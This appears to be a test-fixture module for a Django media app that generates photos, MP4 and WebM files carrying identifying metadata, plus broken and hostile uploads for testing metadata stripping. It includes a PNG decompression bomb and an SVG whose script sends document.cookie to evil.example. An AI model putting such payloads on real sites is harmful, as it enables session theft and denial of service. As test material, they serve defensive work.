"""Real files for the media tests, made in memory: photos with identifying
metadata, broken and hostile uploads, and minimal MP4 and WebM files."""

import io
import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, PngImagePlugin
from PIL import Image as PILImage

# What must never reach a visitor: the camera's serial number, its owner and
# where the photo was taken, in EXIF, XMP, IPTC or comments.
SERIAL = "SN-4455667788"
OWNER = "Camera Owner Name"
PLACE = "Evin Prison gate"
GPS = {
    ExifTags.GPS.GPSLatitudeRef: "N",
    ExifTags.GPS.GPSLatitude: (35.0, 47.0, 38.0),
    ExifTags.GPS.GPSLongitudeRef: "E",
    ExifTags.GPS.GPSLongitude: (51.0, 23.0, 9.0),
}
XMP = (
    '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    '<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" xmlns:aux="http://ns.adobe.com/exif/1.0/aux/"'
    f' exif:GPSLatitude="35,47.633N" exif:GPSLongitude="51,23.15E" aux:SerialNumber="{SERIAL}"'
    f' photoshop:Location="{PLACE}" xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/"/>'
    "</rdf:RDF></x:xmpmeta>"
    '<?xpacket end="w"?>'
)
IDENTIFYING = [SERIAL.encode(), OWNER.encode(), PLACE.encode(), b"xmpmeta", b"Exif\x00\x00"]
LOCATION = b"+35.7938+051.3858/"


def exif(orientation=1):
    data = PILImage.Exif()
    data[ExifTags.Base.Make] = "Canon"
    data[ExifTags.Base.Model] = "EOS R5"
    data[ExifTags.Base.Artist] = "Jane Photographer"
    data[ExifTags.Base.Copyright] = "Free Iran photo desk"
    data[ExifTags.Base.Orientation] = orientation
    data[ExifTags.IFD.GPSInfo] = GPS
    data[ExifTags.IFD.Exif] = {
        ExifTags.Base.DateTimeOriginal: "2023:07:01 14:03:11",
        ExifTags.Base.BodySerialNumber: SERIAL,
        ExifTags.Base.CameraOwnerName: OWNER,
        ExifTags.Base.LensSerialNumber: SERIAL,
    }
    return data


def picture(width=800, height=600, seed=0, mode="RGB"):
    """A picture unique to ``seed``: a colour field with a red block in the top-left corner."""
    colour = ((seed * 67) % 256, (seed * 151 + 40) % 256, (seed * 29 + 90) % 256)
    image = PILImage.new(mode, (width, height), colour if mode == "RGB" else (*colour, 255))
    image.paste((255, 0, 0), (0, 0, width // 4, height // 4))
    return image


def encode(image, format, **params):
    buffer = io.BytesIO()
    image.save(buffer, format, **params)
    return buffer.getvalue()


def with_iptc(jpeg):
    """Insert a Photoshop/IPTC segment (APP13) naming the place, after the JPEG's SOI marker."""
    record = b"\x1c\x02\x5c" + struct.pack(">H", len(PLACE)) + PLACE.encode()  # 2:92 Sublocation
    resource = b"8BIM\x04\x04\x00\x00" + struct.pack(">I", len(record)) + record
    payload = b"Photoshop 3.0\x00" + resource
    return jpeg[:2] + b"\xff\xed" + struct.pack(">H", len(payload) + 2) + payload + jpeg[2:]


def jpeg(width=800, height=600, seed=0, orientation=1, identifying=True):
    image = picture(width, height, seed)
    if not identifying:
        return encode(image, "JPEG", quality=90)
    data = encode(
        image,
        "JPEG",
        quality=90,
        exif=exif(orientation).tobytes(),
        xmp=XMP.encode(),
        comment=f"{SERIAL} {PLACE}".encode(),
    )
    return with_iptc(data)


def png(width=800, height=600, seed=0):
    info = PngImagePlugin.PngInfo()
    info.add_text("Location", PLACE)
    info.add_itxt("XML:com.adobe.xmp", XMP)
    return encode(
        picture(width, height, seed, mode="RGBA"), "PNG", pnginfo=info, exif=exif().tobytes()
    )


def webp(width=800, height=600, seed=0):
    return encode(
        picture(width, height, seed), "WEBP", exif=exif().tobytes(), xmp=XMP.encode(), quality=90
    )


def avif(width=800, height=600, seed=0):
    return encode(
        picture(width, height, seed), "AVIF", exif=exif().tobytes(), xmp=XMP.encode(), quality=70
    )


def gif(width=320, height=240, seed=0, frames=1):
    images = [picture(width, height, seed + n).convert("P") for n in range(frames)]
    return encode(
        images[0],
        "GIF",
        save_all=frames > 1,
        append_images=images[1:],
        duration=80,
        loop=0,
        comment=f"{SERIAL} {PLACE}".encode(),
    )


def upload(data, name="photo.jpg", content_type="image/jpeg"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def not_an_image():
    return b"These are minutes of a meeting, not a photo.\n" * 40


def truncated_jpeg():
    data = jpeg(1200, 900, identifying=False)
    return data[: len(data) * 2 // 3]


def png_bomb(width=30_000, height=30_000):
    """A PNG that claims width x height pixels in a few dozen bytes (a decompression bomb)."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (1 + 3 * 64))
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def svg(script=False):
    body = '<rect width="10" height="10" fill="red"/>'
    if script:
        body += "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">{body}</svg>\n'
    ).encode()


def heic():
    """The start of an iPhone photo: an ISO media file of brand "heic"."""
    return b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 200


# MP4 ------------------------------------------------------------------------

XMP_UUID = bytes.fromhex("BE7ACFCB97A942E89C71999491E3AFAC")
FRAMES = b"\x00\x00\x00\x10FRAME-DATA-0123" * 64


def box(kind, payload):
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def track(handler):
    hdlr = box(b"hdlr", b"\0" * 8 + handler + b"\0" * 12 + b"Handler\0")
    media = box(b"mdia", box(b"mdhd", b"\0" * 24) + hdlr + box(b"minf", box(b"vmhd", b"\0" * 12)))
    return box(b"trak", box(b"tkhd", b"\0" * 84) + media)


def mp4(handlers=(b"vide", b"soun"), brand=b"isom", location=True):
    """A minimal MP4 (ftyp, moov with tracks, mdat); with ``location``, the places phones
    write it: udta/©xyz, Apple's location key in moov/meta, and an XMP uuid box."""
    ftyp = box(b"ftyp", brand + b"\0\0\x02\0" + b"isomiso2avc1mp41")
    tracks = b"".join(track(handler) for handler in handlers)
    extra = b""
    if location:
        extra += box(b"udta", box(b"\xa9xyz", struct.pack(">HH", len(LOCATION), 0) + LOCATION))
        keys = box(b"keys", b"\0" * 8 + b"mdtacom.apple.quicktime.location.ISO6709")
        extra += box(b"meta", b"\0" * 4 + keys + box(b"ilst", box(b"data", LOCATION)))
    moov = box(b"moov", box(b"mvhd", b"\0" * 100) + tracks + extra)
    xmp = box(b"uuid", XMP_UUID + XMP.encode()) if location else b""
    return ftyp + moov + xmp + box(b"mdat", FRAMES)


def mp4_boxes(data, start=0, end=None):
    """``[(type, offset, size)]`` of the boxes in ``data[start:end]``."""
    end = len(data) if end is None else end
    found, offset = [], start
    while offset < end:
        size, kind = struct.unpack(">I4s", data[offset : offset + 8])
        found.append((kind, offset, size))
        offset += size
    return found


# What a camera writes about itself and the moment it filmed, beyond the place.
CAMERA_SERIAL = b"SN-12345"
CAMERA_GPS = b"GPS 35.7938N 51.3858E"
# Seconds since 1904, as MP4 counts them: 2024-09-16 10:00 UTC.
FILMED = 3_809_325_600
# 4x4 RGB frames and a square wave of 16-bit sound: media ffmpeg decodes without a codec.
VIDEO_FRAMES = [bytes((40 * n + i) % 128 for i in range(48)) for n in range(3)]
SOUND = struct.pack("<hh", 4096, -4096) * 400
UNITY = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)


def full_box(kind, version, payload, flags=0):
    return box(kind, struct.pack(">I", version << 24 | flags) + payload)


def times(version, created, modified):
    return struct.pack(">QQ" if version else ">II", created, modified)


def camera_track(number, version, created, media_at, sound=False):
    """A track of raw video or PCM sound whose tkhd and mdhd carry times from ``created``."""
    tkhd = full_box(
        b"tkhd",
        version,
        times(version, created, created + 60)
        + struct.pack(">I4x", number)
        + struct.pack(">Q" if version else ">I", 100)
        + struct.pack(">8xHHH2x", 0, 0, 0x100 if sound else 0)
        + UNITY
        + struct.pack(">II", 0 if sound else 4 << 16, 0 if sound else 4 << 16),
        flags=3,
    )
    mdhd_version = 1 - version
    timescale, duration = (8000, 800) if sound else (30, 3)
    mdhd = full_box(
        b"mdhd",
        mdhd_version,
        times(mdhd_version, created + 1, created + 61)
        + struct.pack(">I", timescale)
        + struct.pack(">Q" if mdhd_version else ">I", duration)
        + struct.pack(">HH", 0x55C4, 0),  # "und"
    )
    if sound:
        handler, header = b"soun", full_box(b"smhd", 0, b"\0" * 4)
        entry = box(b"sowt", struct.pack(">6xH8xHHHHI", 1, 1, 16, 0, 0, 8000 << 16))
        count, sample_size = 800, 2
    else:
        handler, header = b"vide", full_box(b"vmhd", 0, b"\0" * 8, flags=1)
        entry = box(
            b"raw ",
            struct.pack(">6xH16xHHIIIH32sHh", 1, 4, 4, 0x480000, 0x480000, 0, 1, b"", 24, -1),
        )
        count, sample_size = 3, 48
    stbl = box(
        b"stbl",
        full_box(b"stsd", 0, struct.pack(">I", 1) + entry)
        + full_box(b"stts", 0, struct.pack(">III", 1, count, 1))
        + full_box(b"stsc", 0, struct.pack(">IIII", 1, 1, count, 1))
        + full_box(b"stsz", 0, struct.pack(">II", sample_size, count))
        + full_box(b"stco", 0, struct.pack(">II", 1, media_at)),
    )
    dinf = box(b"dinf", full_box(b"dref", 0, struct.pack(">I", 1) + full_box(b"url ", 0, b"", 1)))
    hdlr = full_box(b"hdlr", 0, b"\0" * 4 + handler + b"\0" * 12 + b"Handler\0")
    elst = full_box(b"elst", 0, struct.pack(">IIiI", 1, 100, 0, 0x10000))
    media = box(b"mdia", mdhd + hdlr + box(b"minf", header + dinf + stbl))
    return box(b"trak", tkhd + box(b"edts", elst) + media)


def camera_mp4():
    """A playable MP4 (raw 4x4 frames, PCM sound) carrying what a camera writes beyond the
    place: its times in mvhd, tkhd and mdhd (both layouts, from ``FILMED`` on), a serial
    number and GPS in makers' uuid boxes, boxes of a kind we do not know at the top level and
    in moov, and a metadata box turned into ``free`` without its content being erased."""
    maker = bytes.fromhex("85C0B687820F11E08111F4CE462B6A48")
    traces = CAMERA_SERIAL + b" " + CAMERA_GPS

    def layout(media_at):
        ftyp = box(b"ftyp", b"isom\0\0\x02\0isomiso2mp41")
        mvhd = full_box(
            b"mvhd",
            1,
            times(1, FILMED, FILMED + 60)
            + struct.pack(">IQIH10x", 1000, 100, 0x10000, 0x100)
            + UNITY
            + struct.pack(">24xI", 3),
        )
        moov = box(
            b"moov",
            mvhd
            + camera_track(1, 0, FILMED + 2, media_at)
            + camera_track(2, 1, FILMED + 4, media_at + 144, sound=True)
            + box(b"uuid", maker + traces)
            + box(b"cmra", b"Owner: " + OWNER.encode() + b" " + CAMERA_SERIAL)
            + box(b"free", CAMERA_GPS),
        )
        return ftyp + moov + box(b"uuid", maker[::-1] + b"<Serial>" + traces + b"</Serial>")

    head = layout(media_at=0)
    head = layout(media_at=len(head) + 8)
    sefd = box(b"sefd", b"Image_UTC_Data" + str((FILMED - 2_082_844_800) * 1000).encode())
    return head + box(b"mdat", b"".join(VIDEO_FRAMES) + SOUND) + sefd


# WebM -----------------------------------------------------------------------

UNKNOWN = b"\x01\xff\xff\xff\xff\xff\xff\xff"


def element(element_id, payload, unknown_size=False, size_length=8):
    id_bytes = element_id.to_bytes((element_id.bit_length() + 7) // 8, "big")
    marker = 1 << (7 * size_length)
    size = UNKNOWN if unknown_size else (marker | len(payload)).to_bytes(size_length, "big")
    return id_bytes + size + payload


def webm(track_types=(1, 2), tags=True, unknown_sizes=False):
    """A minimal WebM; with ``tags``, a Tags element holding a location and an
    Attachments element; with ``unknown_sizes``, written as a live recorder does."""
    header = element(0x1A45DFA3, element(0x4282, b"webm"))
    tracks = element(
        0x1654AE6B, b"".join(element(0xAE, element(0x83, bytes([t]))) for t in track_types)
    )
    info = element(0x1549A966, element(0x2AD7B1, b"\x0f\x42\x40"))
    cluster = element(
        0x1F43B675,
        element(0xE7, b"\x00") + element(0xA3, b"\x81\x00\x00\x80" + FRAMES),
        unknown_size=unknown_sizes,
    )
    body = info + tracks + cluster
    if tags:
        simple_tag = element(0x45A3, b"LOCATION") + element(0x4487, LOCATION)
        body += element(0x1254C367, element(0x7373, element(0x67C8, simple_tag)))
        body += element(
            0x1941A469,
            element(0x61A7, element(0x466E, b"cover.jpg") + element(0x465C, SERIAL.encode())),
        )
    return header + element(0x18538067, body, unknown_size=unknown_sizes)


MUXING_APP = b"Lavf-CameraModelX"
WRITING_APP = b"PhoneCam 9.1"
# Nanoseconds since 2001, as Matroska counts them: 2024-09-16 10:00 UTC.
DATE_UTC = struct.pack(">q", 748_173_600 * 10**9)
TITLE = b"Filmed by " + OWNER.encode()


def camera_webm(crc=False, size_length=8, title=TITLE):
    """A playable WebM (raw 4x4 frames) whose Info carries the date, a title and the programs
    that wrote it between what playback needs; with ``crc``, Info opens with its CRC-32."""
    info = b"".join(
        element(element_id, payload, size_length=size_length)
        for element_id, payload in [
            (0x2AD7B1, b"\x0f\x42\x40"),  # TimestampScale: 1 ms
            (0x4D80, MUXING_APP),
            (0x5741, WRITING_APP),
            (0x73A4, bytes(range(16))),  # SegmentUID
            (0x4461, DATE_UTC),
            (0x7BA9, title),
            (0x4489, struct.pack(">d", 100.0)),  # Duration
        ]
    )
    if crc:
        info = element(0xBF, struct.pack("<I", zlib.crc32(info)), size_length=1) + info
    video = element(0xB0, b"\x04") + element(0xBA, b"\x04") + element(0x2EB524, b"RGB\x18")
    entry = (
        element(0xD7, b"\x01")  # TrackNumber
        + element(0x73C5, b"\x01")  # TrackUID
        + element(0x83, b"\x01")  # TrackType: video
        + element(0x86, b"V_UNCOMPRESSED")
        + element(0xE0, video)
    )
    cluster = element(0xE7, b"\x00") + b"".join(
        element(0xA3, b"\x81" + struct.pack(">h", 33 * n) + b"\x80" + frame)
        for n, frame in enumerate(VIDEO_FRAMES)
    )
    segment = (
        element(0x1549A966, info)
        + element(0x1654AE6B, element(0xAE, entry))
        + element(0x1F43B675, cluster)
    )
    return element(0x1A45DFA3, element(0x4282, b"webm")) + element(0x18538067, segment)
